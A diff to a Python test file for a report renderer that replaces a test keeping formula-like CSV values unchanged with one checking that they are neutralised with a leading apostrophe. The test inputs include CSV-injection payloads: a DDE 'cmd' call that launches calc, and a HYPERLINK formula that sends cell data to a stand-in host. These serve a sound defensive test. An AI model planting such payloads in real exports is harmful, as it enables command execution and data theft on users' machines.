@@ -270,14 +270,33 @@ def test_pdf_and_docx_choose_the_same_orientation(wide, default_style, faces, co
     assert (box.width > box.height) == (section.page_width > section.page_height) == wide
 
 
-def test_csv_keeps_values_that_look_like_formulas_exactly(default_style, faces, context):
-    """Values are data ("-5%"), so the CSV never alters them; the module docstring says how to open it safely."""
-    values = ("-5%", "+2.1 pp", "=SUM(A1:A9)", "@home", "\t=1+1")
-    facts = tuple(Fact(value, value, note=value) for value in values)
-    document = Document(Metadata("T"), (Node("t", parse_inline("T"), facts=facts),))
+def test_csv_neutralises_formulas_but_keeps_plain_signed_numbers(default_style, faces, context):
+    """A cell a spreadsheet would run gets a leading "'" (CSV injection); plain numbers stay numbers."""
+    values = {
+        "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://x.example/?"&A1,"Click")': '\'=HYPERLINK("http://x.example/?"&A1,"Click")',
+        "@SUM(1+1)": "'@SUM(1+1)",
+        "+1+1": "'+1+1",
+        "-1+1": "'-1+1",
+        "+2.1 pp": "'+2.1 pp",
+        "\t=1+1": "'\t=1+1",
+        "\r=1+1": "'\r=1+1",
+        "-2.5": "-2.5",
+        "-3%": "-3%",
+        "+3": "+3",
+        "-1,000.5": "-1,000.5",
+        "USD 38 bn": "USD 38 bn",
+        "a=b": "a=b",
+    }
+    facts = tuple(Fact(value, value, period=value, unit=value, note=value) for value in values)
+    timeline = tuple(TimelineEntry(value, value) for value in values)
+    document = Document(Metadata("T"), (Node("t", parse_inline("T"), facts=facts, timeline=timeline),))
     data = render_facts(document, context)["facts.csv"]
     rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
-    assert [(row[3], row[4], row[7]) for row in rows[1:]] == [(value, value, value) for value in values]
+    fact_rows = [row for row in rows if row[0] == "fact"]
+    assert [(row[3], row[4], row[5], row[6], row[7]) for row in fact_rows] == [(safe,) * 5 for safe in values.values()]
+    timeline_cells = sorted((row[3], row[5]) for row in rows if row[0] == "timeline")
+    assert timeline_cells == sorted((safe, safe) for safe in values.values())
 
 
 # ---------------------------------------------------------------- cells written as markup / as finished lines
